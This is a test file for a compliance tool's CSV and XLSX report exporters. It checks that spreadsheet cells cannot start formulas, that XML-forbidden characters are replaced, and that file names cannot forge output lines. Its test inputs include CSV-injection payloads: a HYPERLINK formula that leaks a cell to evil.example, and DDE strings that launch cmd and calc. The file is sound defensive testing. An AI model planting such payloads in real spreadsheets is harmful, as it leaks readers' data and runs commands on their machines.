import * as fs from 'node:fs';
import * as path from 'node:path';
import { joinChunks } from '../../../src/report/formatters';
import { formatAppiCsv, formatCsv } from '../../../src/report/formatters/csv';
import { spreadsheetCell } from '../../../src/report/formatters/register';
import { formatXlsx } from '../../../src/report/formatters/xlsx';
import type { Report } from '../../../src/types';
import { runCli } from '../../support/cli';
import { tmpDir } from '../../support/tmp';
import { manyFlowsReport } from '../support/many-flows';

// Reports cannot be turned against their readers: a spreadsheet cell from input never starts a
// formula (OWASP CSV Injection), the XLSX holds only characters XML allows, and a file name
// cannot add or forge a line of text output.

const TRIGGERS = ['=HYPERLINK("http://evil.example/?"&A1)', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\n=1', '＝1+1', '＋1', '－1', '＠SUM(A1)'];
const NOT_XML = ['a\uFFFFb', 'a\uFFFEb', 'a\uD800b', 'a\uDC00b', 'a\u0001b', 'a\u001bb', 'a\u0008b'];

/** A report whose names and file names carry the hostile values. */
function hostileReport(): Report {
  const report = manyFlowsReport(TRIGGERS.length + NOT_XML.length);
  const values = [...TRIGGERS, ...NOT_XML];
  report.flows.forEach((f, i) => {
    f.exporterName = values[i];
    f.importerName = values[i];
    f.exporterCountry = 'DE';
  });
  report.inputs = [{ file: '=cmd|calc.yaml', sha256: '0'.repeat(64) }];
  return report;
}

/** A report of flows out of Japan whose names, purposes, subjects and declared dates carry the hostile values. */
function hostileJapanReport(): Report {
  const report = hostileReport();
  const values = [...TRIGGERS, ...NOT_XML];
  report.flows.forEach((f, i) => {
    f.exporterCountry = 'JP';
    f.importerCountry = 'SG';
    f.purposes = [values[i]];
    f.subjects = [values[i]];
    f.startsOn = values[i];
    f.mechanisms = [{ type: 'appi-consent', obtainedOn: values[i] }, { type: 'tia', completedOn: values[i] }];
  });
  return report;
}

describe('spreadsheetCell', () => {
  it.each(TRIGGERS)('neutralises a cell starting with %j by a leading apostrophe, keeping the text', (value) => {
    const cell = spreadsheetCell(value);
    expect(cell.startsWith("'")).toBe(true);
    expect(cell.slice(1)).toBe(value);
  });

  it('turns a NUL first into U+FFFD, which starts no formula', () => {
    expect(spreadsheetCell('\u0000=1+1')).toBe('\uFFFD=1+1');
  });

  it.each(['Acme GmbH', 'a=b', 'x-1', '2026-11-28', "'quoted", ' =1 (a space first is text)', ''])('leaves %j as it is', (value) => {
    expect(spreadsheetCell(value)).toBe(value);
  });

  it.each(NOT_XML)('replaces what XML forbids in %j by U+FFFD', (value) => {
    expect(spreadsheetCell(value)).toBe('a\uFFFDb');
  });

  it('keeps characters beyond the BMP (a valid surrogate pair) and tab, LF, CR inside a cell', () => {
    expect(spreadsheetCell('a😀\tb\nc\rd')).toBe('a😀\tb\nc\rd');
  });
});

describe('CSV and XLSX registers', () => {
  it('CSV: no field starts a formula, and the values survive after the apostrophe', () => {
    const csv = joinChunks(formatCsv(hostileReport()));
    const fields = parseCsv(csv);
    expect(fields.length).toBe(1 + TRIGGERS.length + NOT_XML.length);
    for (const row of fields) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
    expect(fields[1][1]).toBe(`'${TRIGGERS[0]} (exporter-0)`);
    expect(csv).not.toMatch(/[\uFFFE\uFFFF\u0001\u001b]/);
  });

  it('XLSX: every cell is neutralised, the XML holds no character XML forbids, and a reader opens it', async () => {
    const xlsx = await formatXlsx(hostileReport());
    const JSZip = (await import('jszip')).default;
    const zip = await JSZip.loadAsync(xlsx);
    for (const name of Object.keys(zip.files)) {
      const xml = await zip.files[name].async('string');
      expect(xml).not.toMatch(/[^\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/u);
    }
    const ExcelJS = (await import('exceljs')).default;
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx as unknown as ArrayBuffer);
    const sheet = wb.getWorksheet('Transfer register')!;
    expect(sheet.rowCount).toBe(1 + TRIGGERS.length + NOT_XML.length);
    const cells: string[] = [];
    sheet.eachRow((row) => row.eachCell((cell) => void cells.push(String(cell.value))));
    wb.getWorksheet('About')!.eachRow((row) => row.eachCell((cell) => void cells.push(String(cell.value))));
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
    expect(sheet.getRow(2).getCell(2).value).toBe(`'${TRIGGERS[0]} (exporter-0)`);
    expect(cells).toContain('Input =cmd|calc.yaml');
  });
});

describe('the APPI record and the declared values of the register', () => {
  it('appi-csv and the register: no field starts a formula, whatever the manifest declares', () => {
    const report = hostileJapanReport();
    for (const csv of [joinChunks(formatAppiCsv(report)), joinChunks(formatCsv(report))]) {
      const fields = parseCsv(csv);
      expect(fields.length).toBe(1 + TRIGGERS.length + NOT_XML.length);
      for (const row of fields) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
      expect(csv).not.toMatch(/[\uFFFE\uFFFF\u0001\u001b]/);
    }
    const appi = parseCsv(joinChunks(formatAppiCsv(report)));
    expect(appi[1][appi[0].indexOf('Principals')]).toBe(`'${TRIGGERS[0]}`);
  });

  it('XLSX: the APPI sheet is neutralised too, and a reader opens it', async () => {
    const xlsx = await formatXlsx(hostileJapanReport());
    const ExcelJS = (await import('exceljs')).default;
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx as unknown as ArrayBuffer);
    const sheet = wb.getWorksheet('APPI provision record')!;
    expect(sheet.rowCount).toBe(1 + TRIGGERS.length + NOT_XML.length);
    const cells: string[] = [];
    for (const w of wb.worksheets) w.eachRow((row) => row.eachCell((cell) => void cells.push(String(cell.value))));
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
  });
});

describe('file names in text output', () => {
  it('a newline in a manifest file name cannot forge a summary line in text, markdown or junit', async () => {
    const dir = tmpDir();
    const forged = 'x\n✔ 0 problems (0 errors, 0 warnings, 0 info); all allowed\n.yaml';
    const manifest = fs.readFileSync(path.join(__dirname, '..', '..', '..', 'examples', 'manifests', 'jp-retailer-eu-subsidiary.json'), 'utf8');
    fs.writeFileSync(path.join(dir, forged.replace(/\.yaml$/, '.json')), manifest);
    const text = await runCli(['check', '--as-of', '2026-11-28', dir]);
    expect(text.code).toBe(1);
    expect(text.stdout.split('\n').filter((l) => /^[✔✖!] /.test(l))).toHaveLength(1);
    expect(text.stdout).toContain('x\\n✔ 0 problems (0 errors, 0 warnings, 0 info); all allowed\\n.json');
    const md = await runCli(['check', '--as-of', '2026-11-28', '-f', 'markdown', dir]);
    expect(md.stdout.split('\n').some((l) => l.startsWith('✔ 0 problems'))).toBe(false);
    const junit = await runCli(['check', '--as-of', '2026-11-28', '-f', 'junit', dir]);
    expect(junit.stdout).not.toContain('&#10;✔');
    expect(junit.stdout).not.toMatch(/file="[^"]*\n/);
  });
});

/** RFC 4180 fields (quoted fields may hold commas, quotes and newlines). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(field);
      field = '';
    } else if (c === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
    } else field += c;
  }
  return rows;
}
